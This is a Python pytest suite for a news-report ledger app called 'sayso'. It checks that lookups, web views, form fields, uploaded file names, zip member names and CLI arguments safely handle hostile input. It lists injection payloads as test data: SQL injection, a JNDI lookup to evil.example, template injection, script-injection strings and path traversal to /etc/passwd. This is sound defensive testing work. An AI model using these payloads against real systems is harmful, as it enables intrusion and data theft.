"""SQL, HTML, and paths in every field: they are words, wherever they come in and wherever they are shown."""

import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import lxml.etree
import lxml.html
import pytest
from click.testing import CliRunner

from browsing import TOKEN, serving
from invented import VERSIONS, a_bare_reading, a_reading, a_report
from sayso.cli import main
from sayso.errors import NotFoundError, SaysoError
from sayso.ledger import Ledger
from sayso.sources import load
from sayso.workflow.link import relink

SQL = (
    "'; DROP TABLE reports; --",
    '" OR ""="',
    "x' UNION SELECT secret FROM people --",
    "%' OR 1=1 --",
    "_%_",
    '"unfinished NEAR(',
    "a* OR b:c",
    "\\",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% raise %}",
)
HTML = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'onmouseover='alert(1)",
    "</title></textarea></script><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<!--<script>",
    "]]><iframe srcdoc='<script>alert(1)</script>'>",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "a/../../b",
    "CON",
    "~root",
)
UNHELD = ("a\0b", "\ud800", "\udcff")
NUMBERS = ("9" * 400, "-" + "9" * 40, "1e400", "NaN")
WORST = (SQL[0], SQL[5], HTML[1], HTML[3], HTML[4], PATHS[0], PATHS[3], NUMBERS[0])
"""Of each kind one, for what takes long to try."""


@pytest.fixture
def filled(ledger: Ledger) -> Ledger:
    """A ledger of one report, linked."""
    ledger.add(a_report(), a_reading(), VERSIONS)
    relink(ledger)
    return ledger


def rows(ledger: Ledger) -> tuple[int, int]:
    return len(list(ledger.readings())), len(list(ledger.incidents()))


@pytest.mark.parametrize("words", [*SQL, *HTML, *PATHS, *UNHELD, *NUMBERS])
def test_whatever_is_asked_for_by_is_a_name_or_words(filled: Ledger, words: str) -> None:
    for ask in (filled.report, filled.reading, filled.incident, filled.mentions, filled.watched.versions):
        with pytest.raises(NotFoundError) as error:
            ask(words)
        assert "\n" not in str(error.value)
    for ask_for_rows in (filled.search, lambda words: filled.statements(source=words)):
        assert _found(lambda ask=ask_for_rows: list(ask(words))) in ([], None)
    assert _found(lambda: filled.people.secret(words)) is None
    assert rows(filled) == (1, 1)


def _found(ask: Any) -> Any:
    """What is found; None where that is told not to be there."""
    try:
        return ask()
    except NotFoundError:
        return None


@pytest.mark.parametrize("words", [*SQL, *HTML, *PATHS])
def test_whatever_a_report_says_comes_back_as_it_was(filled: Ledger, words: str) -> None:
    report = a_report(f"{words} said nine people died.", id=words, title=words, outlet=words, url=words)
    assert filled.add(report, a_bare_reading(report), VERSIONS)
    relink(filled)
    _, kept = filled.report(words)
    assert kept == report
    assert rows(filled) == (2, 1)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A visitor of a page over reports whose every field is hostile."""
    path = tmp_path_factory.mktemp("hostile") / "sayso.db"
    with Ledger.open(str(path)) as ledger:
        ledger.add(a_report(), a_reading(), VERSIONS)
        for words in (*SQL, *HTML, *PATHS):
            text = a_report().text.replace("Lower Tamar", words).replace("Tamar Gazette", words)
            report = a_report(text, id=words, title=words, outlet=words, url=words)
            ledger.add(
                report, a_reading(report) if text == a_report().text else a_bare_reading(report), VERSIONS
            )
        relink(ledger)
    with (
        serving(path) as site,
        httpx.Client(base_url=site.address, follow_redirects=True, timeout=60) as client,
    ):
        shown = client.get(f"/incidents?token={TOKEN}").text
        client.headers["x-csrf-token"] = re.findall(r'"X-CSRF-Token": "([0-9a-f]+)"', shown)[0]
        yield client


def assert_harmless(answer: httpx.Response) -> None:
    """An answer of ours, in which nothing that came in is markup; no script but the page's own may run."""
    assert answer.status_code < 500, (answer.request.url, answer.text)
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert_own(lxml.html.document_fromstring(answer.text))
    assert "root:x:0" not in answer.text


def assert_own(page: lxml.html.HtmlElement) -> None:
    """Every script is a file of the page, nothing runs by an attribute, and no link is a script."""
    for element in page.iter(lxml.etree.Element):
        assert element.tag not in ("iframe", "object", "embed", "base"), element.tag
        assert not [name for name in element.attrib if name.startswith("on")], element.attrib
        assert element.get("src", "/static/").startswith("/static/")
        assert element.tag != "script" or element.get("src") or element.get("type") == "application/json"
        for name in ("href", "action", "formaction", "hx-get", "hx-post"):
            assert not element.get(name, "").strip().lower().startswith(("javascript:", "data:", "//"))


@pytest.mark.parametrize("words", [*WORST, "a\0b"])
def test_every_parameter_of_every_view_takes_anything(client: httpx.Client, words: str) -> None:
    for path, methods in client.get("/api/openapi.json").json()["paths"].items():
        for parameter in methods.get("get", {}).get("parameters", ()):
            if parameter["in"] == "query":
                shown = (
                    path.replace("{name}", "Health Ministry")
                    .replace("{id}", "r-1")
                    .replace("{report}", "r-1")
                )
                assert_harmless(client.get(shown, params={parameter["name"]: words}))
        if "{" in path and "get" in methods:
            quoted = httpx.URL("http://x", params={"x": words}).query.decode()[2:].replace("+", "%20")
            assert_harmless(client.get(re.sub(r"\{\w+\}", quoted, path)))


def test_every_view_of_hostile_reports_is_harmless(client: httpx.Client) -> None:
    for view in (
        "/incidents",
        "/sources",
        "/pledges",
        "/review",
        "/review/reports",
        "/decisions",
        "/search?q=said",
    ):
        assert_harmless(client.get(view))
        assert_harmless(client.get(view, params={"format": "csv"}))
    listed = client.get("/review/reports?format=json").json()
    found = set(re.findall(r"r-[0-9a-f]{8,}", json.dumps(listed)))
    assert len(found) > len({*SQL, *HTML, *PATHS})
    for report in found:
        assert_harmless(client.get(f"/reports/{report}"))
        assert_harmless(client.get(f"/review/reports/{report}"))


@pytest.mark.parametrize("words", WORST)
def test_every_field_of_a_decision_takes_anything(client: httpx.Client, words: str) -> None:
    noted = client.post("/decide", data={"act": "note", "thing": "gazette-17:c1", "why": words})
    assert_harmless(noted)
    assert noted.status_code == 200
    for field in ("act", "thing", "grade", "back", "blind", "f.low", "f.victims.status"):
        form = {"act": "correct", "thing": "gazette-17:c1", "why": "tried", field: words}
        assert_harmless(client.post("/decide", data=form))
    for field in ("report", "kind", "words", "start", "f.low"):
        form = {"report": "gazette-17", "kind": "casualty", "words": "nine people", field: words}
        assert_harmless(client.post("/decide/add", data=form))
    assert_harmless(client.post("/decide/pair", data={"act": "merge", "thing": [words, "gazette-17:i1"]}))
    assert_harmless(client.post("/decide/undo", data={"decision": words}))
    assert_harmless(client.get("/decisions"))
    assert (
        httpx.URL(
            str(client.post("/decide", data={"act": "note", "thing": "gazette-17:c1", "back": words}).url)
        ).host
        == "127.0.0.1"
    )


@pytest.mark.parametrize("name", [*PATHS, *HTML, "x" * 300 + ".txt", "\u202etxt.exe", ".", "..", "a\nb.txt"])
def test_the_name_of_a_file_is_no_path(client: httpx.Client, name: str, tmp_path: Path) -> None:
    sent = {"files": (name, b"Nine people were killed in a raid on Aden, the police said.", "text/plain")}
    assert_harmless(client.post("/add", files=sent))
    assert_harmless(client.get("/add"))


@pytest.mark.parametrize("name", [*PATHS, *HTML, "\u202etxt.exe"])
def test_the_name_of_a_member_of_an_archive_is_no_path(name: str, tmp_path: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{name}.txt", "Nine people were killed in a raid on Aden, the police said.")
    (tmp_path / "in.zip").write_bytes(packed.getvalue())
    before = sorted(tmp_path.rglob("*"))
    loaded = list(load([str(tmp_path / "in.zip")]))
    assert all(one.report or one.error for one in loaded)
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("words", [*WORST, "\udcff"])
def test_every_argument_of_a_command_takes_anything(made: str, words: str) -> None:
    for arguments in (
        ("show", words),
        ("search", "--", words),
        ("statements", "--source", words),
        ("statements", "--report", words),
        ("incidents", "--place", words),
        ("why", words, words),
        ("decide", "note", words, "--why", words),
        ("undo", words, "--why", words),
        ("versions", words),
    ):
        result = CliRunner().invoke(main, [*arguments[:1], "--ledger", made, *arguments[1:]])
        assert result.exit_code in (0, 1, 2), (arguments, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit | SaysoError), arguments
        assert "Traceback" not in result.output


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A ledger of one report, linked."""
    path = str(tmp_path_factory.mktemp("made") / "sayso.db")
    with Ledger.open(path) as ledger:
        ledger.add(a_report(), a_reading(), VERSIONS)
        relink(ledger)
    return path
